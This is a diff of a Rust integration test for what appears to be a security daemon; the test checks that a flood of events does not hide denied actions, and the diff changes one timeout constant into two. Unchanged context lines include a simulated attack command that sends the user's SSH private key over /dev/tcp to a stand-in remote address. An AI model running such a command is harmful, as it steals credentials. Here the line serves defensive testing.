@@ -32,8 +32,10 @@ while [ ! -e /tmp/now ]; do sleep 0.1; done
 { cat ~/.ssh/id_ed25519 >/dev/tcp/203.0.113.10/443; } 2>&1
 touch /tmp/enough; wait"#;
 
-/// How long a flood may take to fill the ring.
-const PATIENCE: Duration = Duration::from_secs(120);
+/// How long a flood may take to fill the ring; less than an attempt may last.
+const FILLING: Duration = Duration::from_secs(120);
+/// How long the daemon may take to read a full ring and to tell of what it lost.
+const READING: Duration = Duration::from_secs(300);
 
 pub fn trials() -> Vec<Trial> {
     vec![Trial::test("A25_a_flood_hides_nothing", || run().map_err(|error| format!("{error:#}").into()))]
@@ -53,7 +55,7 @@ fn run() -> Result<()> {
     ensure!(denied > refused, "of {refused} refused attempts and one act {denied} were counted\n{said}");
 
     // The rest of the ring is still being written, and losses are told of every few seconds.
-    let deadline = Instant::now() + PATIENCE;
+    let deadline = Instant::now() + READING;
     loop {
         let told = Told::since(since)?;
         if told.denials + told.lost >= denied {
@@ -92,7 +94,7 @@ fn flood(
             ended.store(true, Ordering::Release);
             outcome
         });
-        let deadline = Instant::now() + PATIENCE;
+        let deadline = Instant::now() + FILLING;
         let mut filled = Ok(false);
         while matches!(filled, Ok(false)) && Instant::now() < deadline && !ended.load(Ordering::Acquire) {
             thread::sleep(Duration::from_millis(200));
@@ -101,7 +103,7 @@ fn flood(
         // Whatever came of it: it must end.
         fs::write("/tmp/now", "")?;
         attack.join().map_err(|_| anyhow!("the attacker's thread"))??;
-        ensure!(filled?, "the ring was not filled in {} s", PATIENCE.as_secs());
+        ensure!(filled?, "the ring was not filled in {} s", FILLING.as_secs());
         Ok(())
     })
 }
